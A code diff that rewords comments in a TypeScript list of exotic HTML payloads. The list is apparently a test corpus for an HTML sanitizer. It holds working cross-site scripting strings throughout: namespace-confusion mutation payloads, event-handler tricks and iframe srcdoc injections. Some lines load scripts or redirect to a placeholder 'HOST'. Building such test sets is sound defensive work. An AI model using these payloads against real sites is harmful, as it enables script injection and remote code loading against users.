@@ -1,6 +1,6 @@
-/** Parsers that disagree, names that shadow, styles, templates and what else has no pattern. `HOST` is put in later. */
+/** Parser differences, shadowing names, styles, templates and others without a pattern. `HOST` is replaced later. */
 export const EXOTIC_PAYLOADS: readonly string[] = [
-  // Namespaces and mutations: harmless in one parse, alive in the next
+  // Namespaces and mutations: harmless in one parse, active in the next
   '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
   '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
   '<svg><desc><style><!--</style><img src=x onerror=alert(1)>--></style></desc></svg>',
@@ -49,7 +49,7 @@ export const EXOTIC_PAYLOADS: readonly string[] = [
   '<b is="x-y" onclick=alert(1)>x</b>',
   '<slot onslotchange=alert(1)><img src=x onerror=alert(1)></slot>',
 
-  // Frames and documents of their own
+  // Frames and nested documents
   '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
   '<iframe srcdoc="&lt;script src=//HOST/x.js&gt;&lt;/script&gt;"></iframe>',
   '<iframe srcdoc="&lt;meta http-equiv=refresh content=0;url=https://HOST/&gt;"></iframe>',
@@ -91,7 +91,7 @@ export const EXOTIC_PAYLOADS: readonly string[] = [
   '<a href="#" popovertarget="p" onclick="alert(1)">x</a>',
   '<a download="x.html" href="data:text/html,<script>alert(1)</script>">x</a>',
 
-  // What loads from elsewhere
+  // Loads from other hosts
   '<img srcset="https://HOST/1x 1x, https://HOST/2x 2x" src="https://HOST/">',
   '<picture><source srcset="https://HOST/a"><img src="https://HOST/b"></picture>',
   '<video poster="https://HOST/p"><source src="https://HOST/v"><track src="https://HOST/t"></video>',
